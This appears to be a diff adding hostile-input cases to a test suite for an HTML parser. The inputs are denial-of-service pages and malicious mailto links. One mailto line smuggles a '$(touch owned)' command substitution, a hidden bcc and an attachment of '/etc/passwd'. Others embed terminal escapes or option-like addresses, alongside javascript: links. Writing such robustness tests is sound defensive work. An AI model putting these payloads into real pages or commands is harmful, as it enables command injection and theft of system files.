@@ -6,6 +6,8 @@ from typing import Final
 from tests.hostile.matrix import EITHER, HTML, Case, Surface
 
 SENTENCE: Final = "The harbour council voted on Tuesday to rebuild the eastern pier after two winters of storms left it loose. "
+FAMILY: Final = "\U0001f468\u200d\U0001f467"
+SYLLABLE: Final = "\ud55c"
 PROSE: Final = f"<p>{SENTENCE * 2}</p>" * 4
 
 
@@ -43,6 +45,12 @@ _PAGES: Final[dict[Surface, dict[str, Callable[[], bytes]]]] = {
         "2 MB of ampersands": lambda: page(inner="&" * 2_000_000),
         "100,000 links that never end": lambda: page(inner="<a href='" * 100_000),
         "comments that never end": lambda: page(inner="<!--" * 300_000),
+        "200,000 comments in an attribute": lambda: page(head=f'<meta name="description" content="{"<!-- " * 200_000}">'),
+        "20,000 authors": lambda: page(
+            inner='<p class="byline">' + "".join(f"<a rel=author>Ada{n}</a>" for n in range(20_000)) + "</p>"
+        ),
+        "a word of 60,000 families": lambda: page(inner=f"<p>{FAMILY * 60_000}</p>"),
+        "a word of 200,000 syllables": lambda: page(inner=f"<p>{SYLLABLE * 200_000}</p>"),
         "5,000 cards": lambda: page(after=cards(5_000)),
         "60,000 paragraphs": lambda: page(inner="<p>x</p>" * 60_000),
         "one word of 6 MB": lambda: page(inner=f"<p>{'w' * (6 << 20)}</p>"),
@@ -86,6 +94,13 @@ _PAGES: Final[dict[Surface, dict[str, Callable[[], bytes]]]] = {
         "links that are scripts": lambda: page(
             inner="<p><a href='javascript:alert(1)'>x</a> <a href='data:text/html,x'>y</a></p>"
         ),
+        "mail that brings along": lambda: page(
+            inner="<p><a href='mailto:a@b.example?bcc=spy@c.example&attach=/etc/passwd&body=$(touch owned)'>write</a></p>"
+        ),
+        "mail of escapes": lambda: page(inner="<p><a href='mailto:a@b.example\x1b]8;;x\x07\x9b31m\u202e'>write</a></p>"),
+        "mail to an option": lambda: page(inner="<p><a href='mailto:--help'>x</a> <a href='mailto:-v@b.example'>y</a></p>"),
+        "20,000 mails": lambda: page(inner="<a href='mailto:a@b.example'>x</a> " * 20_000),
+        "mail of 1 MB": lambda: page(inner=f"<p><a href='mailto:{'a@' * 500_000}b.example'>here</a></p>"),
         "a canonical that is a script": lambda: page(head='<link rel="canonical" href="javascript:alert(1)">'),
         "a canonical on another host": lambda: page(head='<link rel="canonical" href="http://127.0.0.2:1/stolen">'),
         "a picture that is a script": lambda: page(head='<meta property="og:image" content="javascript:alert(1)">'),
